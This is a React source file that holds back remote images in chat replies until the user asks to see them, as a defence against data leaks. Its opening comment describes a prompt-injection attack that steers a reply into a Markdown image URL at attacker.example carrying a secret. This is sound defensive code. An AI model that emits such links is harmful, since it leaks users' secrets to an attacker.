import { ImageOff } from 'lucide-react';
import { createContext, use } from 'react';
import { useTranslation } from 'react-i18next';

/**
 * Whether one reply's remote images are shown, and how to show them. A reply a prompt injection
 * steered into `![](https://attacker.example/?q=<secret>)` would otherwise make the browser send
 * the secret the moment the reply renders (issue #15 item 8): remote images load only after the
 * user asks, per reply. The rendered Markdown is cached per text, so this comes as context.
 */
export const RemoteImages = createContext<{ shown: boolean; show: () => void }>({
  shown: false,
  show: () => {},
});

/** Replies whose images were shown (by text): scrolled out of view and back, they stay shown. */
const shownReplies = new Set<string>();
export const imagesShown = (text: string) => shownReplies.has(text);
export const rememberShown = (text: string) => shownReplies.add(text);

/** An image at another origin than the app's: loading it tells that origin something. */
function remoteHost(src: string): string | null {
  try {
    const url = new URL(src, window.location.href);
    if (url.protocol === 'data:' || url.origin === window.location.origin) return null;
    return url.host;
  } catch {
    return null;
  }
}

/** A reply's image: same-origin ones load as before; a remote one waits for 'show image'. */
export function ReplyImage({ src, alt, title }: { src: string; alt: string; title?: string }) {
  const { t } = useTranslation('messages');
  const { shown, show } = use(RemoteImages);
  if (!src) return null;
  const host = remoteHost(src);
  if (host === null || shown) {
    return <img src={src} alt={alt} title={title} loading="lazy" referrerPolicy="no-referrer" />;
  }
  return (
    <span className="inline-flex flex-wrap items-center gap-2 rounded-lg border border-dashed border-line bg-surface-2 px-2 py-1 text-sm text-muted">
      <ImageOff size={16} aria-hidden="true" />
      <span>
        {alt ? `${alt} · ` : ''}
        {t('images.hidden', { host })}
      </span>
      <button type="button" className="text-accent underline" onClick={show}>
        {t('images.show')}
      </button>
    </span>
  );
}
